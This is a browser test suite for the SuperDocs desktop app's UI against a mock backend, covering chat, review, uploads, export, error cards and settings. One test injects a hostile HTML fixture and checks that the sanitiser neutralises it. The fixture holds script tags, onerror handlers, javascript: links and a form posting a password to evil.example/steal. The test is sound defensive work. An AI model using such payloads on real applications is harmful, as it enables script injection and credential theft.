// Browser tests of the UI against the mock backend (src/mock): the main flows, every error card, and
// a hostile document proven inert. Run with `npm run test:browser` (builds dist-mock first).
import assert from "node:assert/strict";
import { test, run } from "./harness.mjs";
import "./hostile.mjs"; // hostile documents, one test per vector (issue #12)
import "./native.mjs"; // start-up errors, network and logs settings (issue #13)
import "./a11y.mjs"; // axe-core over every main screen (issue #13)
import "./offline.mjs"; // the offline strip while a job cannot reach the service (issue #8)
import "./i18n.mjs"; // the window in the OS language or the one Settings names, German screens under axe

const KEY = "sk_0123456789abcdef0123456789ab1a2b";
const $ = (sel) => `[data-testid="${sel}"]`;
const calls = (page, cmd) => page.evaluate((c) => window.__mock.calls.filter((x) => x.cmd === c).map((x) => x.args), cmd);
const card = (page, kind) => page.locator(`${$("error-card")}[data-kind="${kind}"]`);

async function openDemo(open, page, query = "") {
  await open(`profile=demo&${query}`);
  await page.waitForSelector(`${$("document")} h1`);
}

async function send(page, text, { review = false } = {}) {
  if (review) await page.check($("review-toggle"));
  await page.fill($("composer-input"), text);
  await page.keyboard.press("Control+Enter");
}

// ── connect ───────────────────────────────────────────────────────────────────────────────────

test("first run shows both doors; a bad key gets the 401 card; a good key connects and never shows", async ({ page, open }) => {
  await open();
  await page.waitForSelector($("connect-screen"));
  assert.ok(await page.isVisible("text=Connect to SuperDocs"));
  assert.ok(await page.isVisible("text=Try the offline demo"));
  assert.match(await page.textContent($("app-version")), /v0\.1\.0/);
  assert.match(await page.textContent("main p"), /v0\.1\.0/, "the shell's e2e test reads the version from the first 'main p'");
  await page.fill($("key-input"), "sk_nothex");
  await page.click("button:has-text('Connect')");
  await card(page, "auth").waitFor();
  assert.ok(await page.isVisible("text=Your API key wasn't accepted"));
  await page.click("[data-action=reenter_key]");
  assert.equal(await page.inputValue($("key-input")), "");
  assert.equal(await page.evaluate(() => document.activeElement?.getAttribute("data-testid")), "key-input");
  await page.fill($("key-input"), KEY);
  await page.click("button:has-text('Connect')");
  await page.waitForSelector(`${$("document")} h1`);
  await page.waitForSelector("text=Your key is stored in GNOME Keyring");
  const html = await page.evaluate(() => document.documentElement.outerHTML);
  assert.ok(!html.includes(KEY), "the key string is in the DOM");
  assert.ok(!(await page.isVisible($("demo-badge"))), "a real profile wears no demo badge");
});

test("when the app cannot load its profiles it says so, still shows the version, and offers Retry", async ({ page, open }) => {
  await open("fail=list_profiles:keyring:1");
  const c = card(page, "keyring");
  await c.waitFor();
  assert.match(await page.textContent("main p"), /v0\.1\.0/);
  assert.ok(await c.locator("[data-action=retry]").isVisible());
});

test("the offline demo starts from the first-run screen and is labelled", async ({ page, open }) => {
  await open();
  await page.click($("start-demo"));
  await page.waitForSelector(`${$("document")} [data-chunk-id="c1"]`);
  assert.equal(await page.textContent($("demo-badge")), "Offline demo");
  assert.equal(await page.locator($("session-item")).count(), 3);
  assert.match(await page.textContent($("usage-meter")), /412 \/ 500/);
});

// ── chat and review ───────────────────────────────────────────────────────────────────────────

test("a chat job streams its progress live, then updates the document and usage", async ({ page, open }) => {
  await openDemo(open, page);
  await send(page, "Add a summary");
  await page.waitForSelector(`${$("job-progress")} >> text=Reading the document`);
  assert.equal(await page.inputValue($("composer-input")), "", "the draft is cleared once the job is accepted");
  await page.waitForSelector("text=Done: I tightened the opening paragraph");
  await page.waitForSelector(`${$("document")} >> text=Revenue grew 15% on enterprise demand`);
  assert.match(await page.textContent($("usage-meter")), /413 \/ 500/);
  const [args] = await calls(page, "send_message");
  assert.deepEqual(args.args, { session_id: "s_q4report", message: "Add a summary", model_tier: "core", thinking_depth: "balanced", review: false });
});

test("review mode: inline diffs with Keep/Discard (+feedback), then the job resumes and finishes", async ({ page, open, shot }) => {
  await openDemo(open, page);
  await send(page, "Tighten the intro", { review: true });
  await page.waitForSelector($("changes-card"));
  const doc = page.locator($("document"));
  assert.equal(await doc.locator(".change").count(), 2);
  assert.ok((await doc.locator(".change-edit del").count()) > 0, "removed text is struck through");
  assert.ok((await doc.locator(".change-edit ins").count()) > 0, "new text is highlighted");
  await shot("review-light");
  await doc.locator('[data-change-id="chg_1"] [data-change-action="keep"]').click();
  await doc.locator('[data-change-id="chg_2"] [data-change-action="discard"]').click();
  await page.fill(`${$("discard-form")} input`, "no summary please");
  await page.click(`${$("discard-form")} button[type=submit]`);
  assert.ok(await doc.locator('[data-change-id="chg_2"].is-discarded').isVisible());
  await page.click($("apply-decisions"));
  await page.waitForSelector("text=Applied 1 of 2 changes.");
  const [approve] = await calls(page, "approve_changes");
  assert.deepEqual(approve.decisions, [
    { change_id: "chg_1", approved: true, feedback: null },
    { change_id: "chg_2", approved: false, feedback: "no summary please" },
  ]);
  assert.ok(!(await doc.textContent()).includes("Revenue grew 15% on enterprise demand"), "the discarded summary is not in the document");
  assert.ok((await doc.textContent()).includes("Margins improved as well."), "the kept edit is in the document");
});

test("Keep all / Discard all in the chat card decide every change", async ({ page, open }) => {
  await openDemo(open, page);
  await send(page, "Go", { review: true });
  await page.waitForSelector($("changes-card"));
  await page.click($("discard-all"));
  assert.equal(await page.locator(`${$("document")} .is-discarded`).count(), 2);
  await page.click($("keep-all"));
  assert.equal(await page.locator(`${$("document")} .is-kept`).count(), 2);
  await page.click($("apply-decisions"));
  await page.waitForSelector("text=Applied 2 of 2 changes.");
});

test("a review of 400 changes: every change drawn in its block, decisions patch only their own block", async ({ page, open }) => {
  await open("profile=demo&paras=400&pace=20");
  await page.waitForSelector(`${$("document")} [data-chunk-id="b399"]`);
  await send(page, "Make it formal", { review: true });
  await page.waitForSelector(`${$("changes-card")}[data-count="402"]`);
  const doc = page.locator($("document"));
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="document"] .change').length === 402);
  assert.equal(await doc.locator(".change-edit").count(), 401, "each paragraph's edit replaced its own block");
  assert.ok((await page.locator(`${$("changes-card")} ${$("change")}`).count()) < 40, "the card draws only the rows in view");
  // Marks on blocks: a block redrawn or replaced would lose them.
  await page.evaluate(() => {
    for (const sel of ['[data-chunk-id="c1"]', '[data-change-id="chg_b5"]', '[data-change-id="chg_b7"]']) document.querySelector(sel).__mark = sel;
  });
  const marked = () =>
    page.evaluate(() => ['[data-chunk-id="c1"]', '[data-change-id="chg_b5"]', '[data-change-id="chg_b7"]'].map((sel) => document.querySelector(sel)?.__mark === sel));
  await doc.locator('[data-change-id="chg_b7"] [data-change-action="keep"]').click();
  await page.waitForSelector('[data-change-id="chg_b7"].is-kept');
  assert.deepEqual(await marked(), [true, true, true], "Keep patched its block in place; nothing else was redrawn");
  assert.equal(await doc.locator(".is-kept").count(), 1);
  assert.match(await page.textContent($("decided")), /^1 of 402 decided/);
  await page.click($("keep-all"));
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="document"] .is-kept').length === 402);
  assert.deepEqual(await marked(), [true, true, true], "Keep all patched the blocks in place");
  await doc.locator('[data-change-id="chg_b7"] [data-change-action="undo"]').click();
  await page.waitForSelector('[data-change-id="chg_b7"]:not(.is-kept) [data-change-action="keep"]');
  assert.equal(await doc.locator(".is-kept").count(), 401);
  assert.deepEqual(await marked(), [true, true, true], "Undo patched its block in place");
  await doc.locator('[data-change-id="chg_b7"] [data-change-action="keep"]').click();
  await page.click($("apply-decisions"));
  await page.waitForSelector("text=Applied 402 of 402 changes.");
  await page.waitForSelector(`${$("document")} >> text=Paragraph 399 says we do not stop.`);
  assert.equal(await doc.locator(".change").count(), 0, "the review's marks are gone with the review");
});

test("1,000 sessions: the list pages with limit until all are loaded, draws only the rows in view, filters them all", async ({ page, open }) => {
  await open("profile=demo&sessions=1000");
  await page.waitForSelector($("session-item"));
  await page.waitForSelector($("sessions-loading"), { state: "detached" });
  const limits = (await calls(page, "list_sessions")).map((a) => a.limit);
  assert.deepEqual(limits.slice(0, 5), [100, 200, 400, 800, 1600], "asked for twice as many until fewer came back");
  assert.ok((await page.locator($("session-item")).count()) < 100, "only the rows in view are drawn");
  await page.fill('[aria-label="Filter sessions"]', "number 987");
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="session-item"]').length === 1);
  assert.match(await page.textContent($("session-item")), /Old question number 987/);
});

test("a finished turn joins the chat from its result, without reading the history again; its Rewind still works", async ({ page, open }) => {
  await open("profile=demo&pace=20");
  await page.waitForSelector(`${$("document")} h1`);
  const histories = async () => (await calls(page, "get_history")).length;
  const before = await histories();
  await send(page, "Add a summary");
  await page.waitForSelector("text=Done: I tightened the opening paragraph");
  await page.waitForSelector(`${$("document")} >> text=Revenue grew 15% on enterprise demand`);
  assert.equal(await page.locator($("message")).count(), 4, "the new turn's two messages are shown");
  assert.equal(await histories(), before, "the history was not read again");
  await page.hover(`${$("message")} >> nth=2`);
  await page.click(`${$("message")} >> nth=2 >> ${$("rewind")}`);
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="message"]').length === 2);
  assert.equal(await page.inputValue($("composer-input")), "Add a summary");
  const [revert] = await calls(page, "revert");
  assert.equal(revert.turnIndex, 1, "the turn index was read from the service once it was needed");
});

test("Rewind to here puts the message back in the composer", async ({ page, open }) => {
  await openDemo(open, page);
  await page.hover($("message"));
  await page.click($("rewind"));
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="message"]').length === 0);
  assert.equal(await page.inputValue($("composer-input")), "Tighten the opening paragraph and keep the numbers.");
});

test("a job this window did not start (resumed after a restart) shows its live progress in its session", async ({ page, open }) => {
  await openDemo(open, page);
  await page.evaluate(() =>
    window.__mock.job({ kind: "progress", job_id: "job_resumed", session_id: "s_q4report", text: "Resumed: still drafting", sequence: 7 }),
  );
  await page.waitForSelector(`${$("job-progress")} >> text=Resumed: still drafting`);
  await page.evaluate(() =>
    window.__mock.job({ kind: "completed", job_id: "job_resumed", session_id: "s_q4report", response: "Finished while you were away.", document_html: null, usage: null }),
  );
  await page.waitForSelector($("job-progress"), { state: "detached" });
  await page.click($("activity-button"));
  assert.equal(await page.getAttribute(`${$("job-row")}`, "data-status"), "completed");
});

test("a notification click (focus_session) brings its session forward", async ({ page, open }) => {
  await openDemo(open, page);
  await page.evaluate(() => window.__mock.focusSession("s_contract"));
  await page.waitForSelector(`${$("document")} h1:has-text("Master Services Agreement")`);
});

// ── uploads and drag and drop ─────────────────────────────────────────────────────────────────

test("dropping files shows two targets, refuses bad files on the spot with the reason, queues the rest", async ({ page, open, shot }) => {
  await openDemo(open, page);
  const files = ["/home/me/Documents/terms.pdf", "/home/me/Documents/old-contract.doc", "/home/me/Documents/board-scans.pdf", "/home/me/Documents/logo.png"];
  await page.evaluate((f) => window.__mock.drag(f), files);
  await page.waitForSelector($("drop-overlay"));
  await page.waitForSelector(`${$("drop-attachment")} ${$("drop-refused")}`);
  const refused = await page.textContent(`${$("drop-attachment")} ${$("drop-refused")}`);
  assert.match(refused, /old-contract\.doc is a legacy \.doc file/);
  assert.match(refused, /board-scans\.pdf is 180 MB; the limit is 100 MB/);
  assert.match(await page.textContent(`${$("drop-document")} ${$("drop-refused")}`), /logo\.png can't be opened as a document/);
  await shot("drop-overlay-light");
  await page.evaluate((f) => window.__mock.drop(f, "attachment"), files);
  await page.waitForSelector($("activity-drawer"));
  assert.equal(await page.isVisible($("drop-overlay")), false);
  const [queued] = await calls(page, "queue_uploads");
  assert.deepEqual(queued.paths, ["/home/me/Documents/terms.pdf", "/home/me/Documents/logo.png"], "refused files are never sent");
  assert.equal(queued.mode, "attachment");
  await page.waitForSelector(`${$("upload-row")}[data-state=uploading]`);
  assert.match(await page.textContent(`${$("upload-row")}[data-state=uploading]`), /of .* · .*\/s/);
  await shot("upload-drawer-light");
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="upload-row"][data-state="done"]').length === 2);
  assert.equal(await page.locator(`${$("upload-row")}[data-state=refused]`).count(), 2);
  assert.ok(await page.isVisible("text=This file type isn't supported"));
  assert.ok(await page.isVisible("text=This file is too large"));
  await page.waitForSelector(`${$("attachments")} >> text=logo.png`);
});

test("Esc cancels a drag; a document dropped on 'Open as document' replaces the document", async ({ page, open }) => {
  await openDemo(open, page);
  await page.evaluate(() => window.__mock.drag(["/home/me/Documents/notes.md"]));
  await page.waitForSelector($("drop-overlay"));
  await page.keyboard.press("Escape");
  assert.equal(await page.isVisible($("drop-overlay")), false);
  await page.evaluate(() => window.__mock.drag(["/home/me/Documents/notes.md"]));
  await page.waitForSelector($("drop-overlay"));
  await page.evaluate(() => window.__mock.drop(["/home/me/Documents/notes.md"], "document"));
  await page.waitForSelector(`${$("document")} h1:has-text("notes")`);
});

test("an upload that fails shows its card in the row; Retry finishes it; Cancel stops one", async ({ page, open }) => {
  await openDemo(open, page);
  await page.evaluate(() => window.__mock.fail("upload", "server", 1));
  await page.evaluate(() => window.__mock.pickNext(["/home/me/Documents/big-deck.pdf"]));
  await page.keyboard.press("Control+o");
  await page.click($("activity-button"));
  await page.waitForSelector(`${$("upload-row")}[data-state=failed] ${$("error-card")}[data-kind=server]`);
  await page.click(`${$("upload-row")}[data-state=failed] [data-action=retry]`);
  await page.waitForSelector(`${$("upload-row")}[data-state=done]`);
  await page.evaluate(() => window.__mock.pickNext(["/home/me/Documents/terms.pdf"]));
  await page.keyboard.press("Control+o");
  await page.waitForSelector(`${$("upload-row")}[data-state=uploading]`);
  await page.click($("upload-cancel"));
  await page.waitForSelector(`${$("upload-row")}[data-state=cancelled]`);
  assert.ok(await page.isVisible($("upload-retry")), "a cancelled upload can be retried");
});

// ── export ────────────────────────────────────────────────────────────────────────────────────

test("export a PDF with options; progress; Open and Show in folder", async ({ page, open, shot }) => {
  await openDemo(open, page);
  await page.keyboard.press("Control+e");
  await page.waitForSelector($("export-dialog"));
  await page.selectOption($("export-format"), "pdf");
  await page.selectOption("#paper", "A4");
  await page.check("input[value=landscape]");
  await page.fill($("export-watermark"), "DRAFT");
  assert.equal(await page.inputValue($("export-filename")), "Q4 Report");
  await shot("export-dialog-light");
  await page.click($("export-run"));
  await page.waitForSelector($("export-saved"));
  assert.match(await page.textContent($("export-saved")), /\/home\/me\/Downloads\/Q4 Report\.pdf/);
  const [exp] = await calls(page, "export_document");
  assert.deepEqual(exp.args, {
    session_id: "s_q4report",
    format: "pdf",
    options: { paper_size: "A4", orientation: "landscape", margins: "normal", watermark_text: "DRAFT", watermark_opacity: 0.3 },
    filename: "Q4 Report.pdf",
    folder: "/home/me/Downloads",
    email: false,
  });
  await page.click($("open-export"));
  await page.click($("show-in-folder"));
  assert.deepEqual(await calls(page, "open_path"), [{ path: "/home/me/Downloads/Q4 Report.pdf" }]);
  assert.deepEqual(await calls(page, "show_in_folder"), [{ path: "/home/me/Downloads/Q4 Report.pdf" }]);
  await page.keyboard.press("Escape");
  assert.equal(await page.isVisible($("export-dialog")), false);
});

test("an export whose first attempts hit 502s shows the retry in the dialog, then saves", async ({ page, open }) => {
  await openDemo(open, page, "fail=export_document:server_retry&pace=200");
  await page.click($("export-button"));
  await page.click($("export-run"));
  await page.waitForSelector(`${$("export-dialog")} ${$("retry-notice")} >> text=(attempt 2 of 5)`);
  await page.waitForSelector($("export-saved"));
});

test("an export over 100 MB takes the e-mailed link path by itself and says so", async ({ page, open }) => {
  await openDemo(open, page);
  await page.click(`${$("session-item")}:has-text("Scanned archive")`);
  await page.waitForSelector(`${$("document")} h1:has-text("Scanned archive")`);
  await page.click($("export-button"));
  await page.click($("export-run"));
  await page.waitForSelector($("export-emailed"));
  const text = await page.textContent($("export-emailed"));
  assert.match(text, /you@example\.com/);
  assert.match(text, /7 days/);
  assert.match(text, /about 10 minutes/);
});

// ── every error card ──────────────────────────────────────────────────────────────────────────

test("502: 'Retrying in 3 s (attempt 2 of 5)' while the retry waits, then success", async ({ page, open }) => {
  await openDemo(open, page, "fail=send_message:server_retry");
  await send(page, "Summarise");
  await page.waitForSelector(`${$("retry-notice")} >> text=Retrying in 3 s (attempt 2 of 5)`);
  await page.waitForSelector(`${$("job-progress")} >> text=Reading the document`);
  assert.equal(await page.locator($("error-card")).count(), 0);
});

test("a waiting retry can be cancelled; the composer keeps the text", async ({ page, open }) => {
  await openDemo(open, page, "fail=send_message:server_retry&pace=400");
  await send(page, "Keep me");
  await page.click(`${$("retry-notice")} button:has-text('Cancel')`);
  await page.waitForSelector($("retry-notice"), { state: "detached" });
  assert.equal(await page.inputValue($("composer-input")), "Keep me");
  assert.equal(await page.locator($("job-progress")).count(), 0);
});

test("502 after all retries: Retry and Try another model; Details with trace id and Copy; Report problem", async ({ page, open, shot }) => {
  await openDemo(open, page, "fail=send_message:server:1");
  await send(page, "Summarise");
  const c = card(page, "server");
  await c.waitFor();
  assert.ok(await c.locator("text=SuperDocs is having trouble").isVisible());
  assert.equal(await page.inputValue($("composer-input")), "Summarise", "the composer keeps the message");
  await c.locator("button:has-text('Details')").click();
  const details = await c.locator($("error-details")).textContent();
  assert.match(details, /502/);
  assert.match(details, /UPSTREAM_ERROR/);
  assert.match(details, /evt_/);
  assert.match(details, /cli_/);
  assert.match(details, /UTC/);
  await c.locator("button:has-text('Copy')").click();
  await c.locator("button:has-text('Copied')").waitFor();
  await shot("error-card-light");
  await c.locator("button:has-text('Report problem')").click();
  await page.waitForFunction(() => window.__mock.calls.some((x) => x.cmd === "open_url"));
  const [report] = await calls(page, "open_url");
  assert.match(report.url, /^mailto:hello@superdocs\.app/);
  assert.match(decodeURIComponent(report.url), /Trace id: evt_/);
  assert.match(decodeURIComponent(report.url), /Diagnostics[^]*OS: mock/, "the version, OS and last log lines ride along");
  await c.locator("[data-action=switch_model]").click();
  await page.waitForSelector(`${$("job-progress")} >> text=Reading the document`);
  const sent = await calls(page, "send_message");
  assert.equal(sent.at(-1).args.model_tier, "turbo");
  assert.equal(sent.at(-1).args.message, "Summarise");
});

test("quota 429: used / limit, Upgrade, and no Retry", async ({ page, open }) => {
  await openDemo(open, page, "fail=send_message:quota");
  await send(page, "One more");
  const c = card(page, "quota");
  await c.waitFor();
  assert.match((await c.locator($("quota-limits")).textContent()).replace(/\s+/g, " "), /500 of 500 operations used · 0 left/);
  assert.ok(await c.locator("[data-action=upgrade]").isVisible());
  assert.equal(await c.locator("[data-action=retry]").count(), 0);
  assert.equal(await page.inputValue($("composer-input")), "One more");
  await c.locator("[data-action=upgrade]").click();
  assert.equal((await calls(page, "open_url"))[0].url, "https://superdocs.app/pricing");
});

test("401 in a session: Re-enter key opens the key settings", async ({ page, open }) => {
  await openDemo(open, page, "fail=send_message:auth");
  await send(page, "Hi");
  await card(page, "auth").locator("[data-action=reenter_key]").click();
  await page.waitForSelector($("settings-dialog"));
  assert.ok(await page.isVisible(`${$("settings-dialog")} [role=tab][aria-selected=true]:has-text("Profiles")`));
  assert.equal(await page.inputValue($("composer-input")), "Hi", "the rest of the state is kept");
});

test("prompt over 100,000 characters: counter, never sent, Add as document keeps the text", async ({ page, open }) => {
  await openDemo(open, page);
  const long = "x".repeat(100_001);
  await page.fill($("composer-input"), long);
  assert.match(await page.textContent($("char-counter")), /100,001 \/ 100,000/);
  assert.ok(await page.isVisible($("add-as-document")));
  await page.focus($("composer-input"));
  await page.keyboard.press("Control+Enter");
  const c = card(page, "prompt_too_long");
  await c.waitFor();
  assert.equal((await calls(page, "send_message")).length, 0, "nothing was sent");
  assert.equal((await page.inputValue($("composer-input"))).length, 100_001);
  await c.locator("[data-action=add_as_document]").click();
  await page.waitForSelector(`${$("document")} h1:has-text("Pasted text")`);
  const [up] = await calls(page, "upload_text");
  assert.equal(up.text.length, 100_001);
  assert.equal(up.mode, "document");
});

test("unsupported file picked with the keyboard: refused before upload with convert-to-docx advice", async ({ page, open }) => {
  await openDemo(open, page);
  await page.evaluate(() => window.__mock.pickNext(["/home/me/Documents/old-contract.doc"]));
  await page.keyboard.press("Control+o");
  await page.waitForSelector($("activity-drawer"));
  const c = card(page, "unsupported_file");
  await c.waitFor();
  assert.match(await c.textContent(), /Convert it to \.docx/);
  assert.equal((await calls(page, "queue_uploads")).length, 0);
});

test("export too big: the card offers the e-mailed link and keeps the options", async ({ page, open }) => {
  await openDemo(open, page, "fail=export_document:export_too_big:1");
  await page.click($("export-button"));
  await page.selectOption($("export-format"), "pdf");
  await page.click($("export-run"));
  const c = card(page, "too_large");
  await c.waitFor();
  assert.ok(await c.locator("text=The export is too big to download").isVisible());
  assert.equal(await page.inputValue($("export-format")), "pdf", "the dialog keeps its options");
  await c.locator("[data-action=email_link]").click();
  await page.waitForSelector($("export-emailed"));
  assert.equal((await calls(page, "export_document")).at(-1).args.email, true);
});

test("409 on rewind while a job runs: Cancel the job, then the rewind happens", async ({ page, open }) => {
  await openDemo(open, page);
  await send(page, "Change it", { review: true });
  await page.waitForSelector($("changes-card"));
  await page.locator($("message")).first().hover();
  await page.locator($("rewind")).first().click();
  const c = card(page, "conflict");
  await c.waitFor();
  assert.ok(await c.locator("[data-action=wait_for_job]").isVisible());
  await c.locator("[data-action=cancel_job]").click();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="message"]').length === 0);
  assert.equal(await page.inputValue($("composer-input")), "Tighten the opening paragraph and keep the numbers.");
  assert.equal((await calls(page, "cancel_job")).length, 1);
});

test("409 with Wait for the job: the rewind runs when the job finishes", async ({ page, open }) => {
  await openDemo(open, page, "pace=300");
  await send(page, "Change it");
  await page.waitForSelector($("job-progress"));
  await page.locator($("message")).first().hover();
  await page.locator($("rewind")).first().click();
  await card(page, "conflict").locator("[data-action=wait_for_job]").click();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="message"]').length === 0);
  assert.equal((await calls(page, "revert")).length, 2);
});

test("network down: the sessions list shows the card; Retry recovers", async ({ page, open }) => {
  await open("profile=demo&fail=list_sessions:network:1");
  const c = card(page, "network");
  await c.waitFor();
  assert.ok(await c.locator("text=Can't reach SuperDocs").isVisible());
  await c.locator("[data-action=retry]").click();
  await page.waitForSelector($("session-item"));
});

test("rate limited and a background failure arrive as a toast", async ({ page, open }) => {
  await openDemo(open, page);
  await page.evaluate(() => window.__mock.backgroundError("rate_limited"));
  const t = page.locator(`${$("toast")} ${$("error-card")}[data-kind=rate_limited]`);
  await t.waitFor();
  assert.match(await t.textContent(), /Try again in 2 min/);
  await t.locator("button[aria-label=Dismiss]").click();
  await t.waitFor({ state: "detached" });
});

test("every error kind renders a card with a title, Details (request id, time) and Report problem", async ({ page, open }) => {
  await openDemo(open, page);
  const kinds = ["auth", "forbidden", "not_found", "conflict", "validation", "too_large", "quota", "rate_limited", "timeout", "server", "network", "protocol", "unsupported_file", "prompt_too_long", "keyring", "cancelled", "internal"];
  for (const kind of kinds) {
    await page.evaluate((k) =>
      window.__TAURI_INTERNALS__.invoke("plugin:event|emit", {
        event: "error",
        payload: { kind: k, message: `Message for ${k}.`, request_id: `cli_${k}`, retryable: false, attempts: 1, at: "2026-11-22T05:00:00Z", operation: { kind: "other", label: "Testing" } },
      }),
    kind);
    const c = page.locator(`${$("toast")} ${$("error-card")}[data-kind="${kind}"]`);
    await c.waitFor();
    const title = (await c.locator("h3").textContent()).trim();
    assert.ok(title.length > 5 && !title.includes("_"), `${kind}: title "${title}"`);
    assert.match(await c.textContent(), new RegExp(`Message for ${kind}\\.`));
    await c.locator("button:has-text('Details')").click();
    assert.match(await c.locator($("error-details")).textContent(), new RegExp(`cli_${kind}[\\s\\S]*2026-11-22 05:00:00 UTC`));
    assert.ok(await c.locator("button:has-text('Report problem')").isVisible());
    await c.locator("button[aria-label=Dismiss]").click();
    await c.waitFor({ state: "detached" });
  }
});

// ── the hostile document ──────────────────────────────────────────────────────────────────────

test("hostile server HTML is inert: no scripts, handlers, javascript: links, remote loads or forms", async ({ page, open, offsite }) => {
  const dialogs = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await openDemo(open, page);
  await page.evaluate(() => {
    window.__mock.state.sessions[1].html = `<h1 data-chunk-id="h1" onmouseover="alert('h')">Hostile</h1>
      <script>window.__pwned = 1; alert('script')</script>
      <p data-chunk-id="h2">Click <a id="js" href="javascript:window.__pwned=2">here</a> or <a id="web" href="https://example.com/page">there</a></p>
      <img id="remote" src="https://tracker.example/pixel.gif" onerror="window.__pwned=3">
      <img src="x" onerror="window.__pwned=4">
      <form action="https://evil.example/steal" method="post"><input name="pw" value="x"><button id="sub">Send</button></form>
      <iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
      <svg><a xlink:href="javascript:alert(5)"><text>svg</text></a></svg>
      <p style="background-image:url(https://tracker.example/bg.png)" data-chunk-id="h3">styled</p>
      <meta http-equiv="refresh" content="0;url=https://evil.example/">
      <a id="data" href="data:text/html,<script>alert(6)</script>">data</a>`;
  });
  await page.click(`${$("session-item")}:has-text("Master Services")`);
  await page.waitForSelector(`${$("document")} h1:has-text("Hostile")`);
  const doc = page.locator($("document"));
  assert.equal(await doc.locator("script, form, input, button:not(.change-btn), iframe, object, svg, meta, style").count(), 0);
  const attrs = await doc.evaluate((el) => [...el.querySelectorAll("*")].flatMap((n) => [...n.attributes].map((a) => a.name)));
  assert.ok(!attrs.some((a) => a.startsWith("on") || a === "style"), `handler or style attribute left: ${attrs}`);
  assert.deepEqual(await doc.evaluate((el) => [...el.querySelectorAll("[data-chunk-id]")].map((n) => n.getAttribute("data-chunk-id"))), ["h1", "h2", "h3"]);
  assert.equal(await page.getAttribute("#user-content-remote", "src"), null);
  assert.equal(await page.getAttribute("#user-content-remote", "data-blocked-src"), "https://tracker.example/pixel.gif");
  await page.hover("#user-content-js");
  await page.click("#user-content-js");
  await page.click("#user-content-data").catch(() => {});
  await page.click("#user-content-web");
  await page.waitForTimeout(100);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(dialogs, []);
  assert.deepEqual(await calls(page, "open_url"), [{ url: "https://example.com/page" }], "only the web link opens, and externally");
  assert.ok(page.url().startsWith("http://127.0.0.1"), "the app did not navigate");
  assert.deepEqual(offsite, [], `remote requests were made: ${offsite}`);
});

// ── settings, keyboard, layout ────────────────────────────────────────────────────────────────

test("settings: profiles with key location, replace key, theme and notifications persist", async ({ page, open, shot }) => {
  await open("profile=work");
  await page.waitForSelector(`${$("document")} h1`);
  await page.keyboard.press("Control+,");
  await page.waitForSelector($("settings-dialog"));
  assert.match(await page.textContent($("settings-dialog")), /sk_…1a2b · in GNOME Keyring/);
  await shot("settings-light");
  await page.click($("replace-key"));
  await page.fill($("new-key"), `sk_${"f".repeat(28)}9c9c`);
  await page.click("button:has-text('Check and save')");
  await page.waitForSelector("text=Key checked and stored in GNOME Keyring (sk_…9c9c).");
  await page.click($("add-profile"));
  await page.fill("input[placeholder='Profile name']", "Personal");
  await page.fill($("add-key"), `sk_${"a".repeat(28)}7e7e`);
  await page.click(`${$("settings-dialog")} button[type=submit]:has-text('Connect')`);
  await page.waitForSelector("text=Profile Personal connected; your key is in GNOME Keyring.");
  assert.equal(await page.locator($("profile-row")).count(), 3);
  assert.equal(await page.inputValue($("profile-switch")), "Personal");
  await page.click("[role=tab]:has-text('General')");
  await page.check($("theme-dark"));
  await page.waitForFunction(() => document.documentElement.dataset.theme === "dark");
  await page.check("text=Always");
  const saved = (await calls(page, "save_settings")).at(-1).settings;
  assert.equal(saved.theme, "dark");
  assert.equal(saved.notifications, "always");
  await page.keyboard.press("Escape");
  assert.equal(await page.isVisible($("settings-dialog")), false);
});

test("keyboard: Ctrl+K jumps to a session, Ctrl+N makes a new one, Esc closes", async ({ page, open }) => {
  await openDemo(open, page);
  await page.keyboard.press("Control+k");
  await page.waitForSelector($("jump-dialog"));
  await page.keyboard.type("master");
  await page.keyboard.press("Enter");
  await page.waitForSelector(`${$("document")} h1:has-text("Master Services Agreement")`);
  await page.keyboard.press("Control+n");
  await page.waitForSelector("text=No document in this session yet");
  assert.equal(await page.locator($("session-item")).count(), 4);
  await page.keyboard.press("Control+k");
  await page.waitForSelector($("jump-dialog"));
  await page.keyboard.press("Escape");
  assert.equal(await page.isVisible($("jump-dialog")), false);
  await page.keyboard.press("Tab");
  const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
  assert.notEqual(outline, "none", "keyboard focus is visible");
});

test("no sessions: the empty state invites a drop", async ({ page, open }) => {
  await open("profile=demo&empty=1");
  await page.waitForSelector($("empty-state"));
  assert.ok(await page.isVisible("text=Drop a document here to start"));
});

test("usable at 900×600: panes fold away and come back from the title bar", async ({ page, open, shot }) => {
  await open("profile=demo", { width: 900, height: 600 });
  await page.waitForSelector(`${$("document")} h1`);
  assert.equal(await page.isVisible($("chat-pane")), false);
  await shot("narrow-900x600-light");
  await page.click("button[aria-label=Chat]");
  await page.waitForSelector($("chat-pane"));
  await shot("narrow-900x600-chat-light");
  await page.keyboard.press("Escape");
  await page.waitForSelector($("chat-pane"), { state: "hidden" });
  await page.click("button[aria-label=Sessions]");
  await page.waitForSelector($("sidebar"));
});

// ── the screenshot tour (light and dark) ─────────────────────────────────────────────────────

for (const theme of ["light", "dark"]) {
  test(`screenshots (${theme})`, async ({ page, open, shot }) => {
    await open(`theme=${theme}`);
    await page.waitForSelector($("connect-screen"));
    await shot(`connect-${theme}`);
    await open(`profile=demo&theme=${theme}`);
    await page.waitForSelector(`${$("document")} h1`);
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), theme);
    await shot(`session-${theme}`);
    await send(page, "Add a summary and tighten the opening", { review: true });
    await page.waitForSelector($("changes-card"));
    await shot(`review-${theme}`);
    await page.click($("keep-all"));
    await page.click($("apply-decisions"));
    await page.waitForSelector("text=Applied 2 of 2");
    await page.evaluate(() => window.__mock.drag(["/home/me/Documents/terms.pdf", "/home/me/Documents/old-contract.doc"]));
    await page.waitForSelector($("drop-refused"));
    await shot(`drop-overlay-${theme}`);
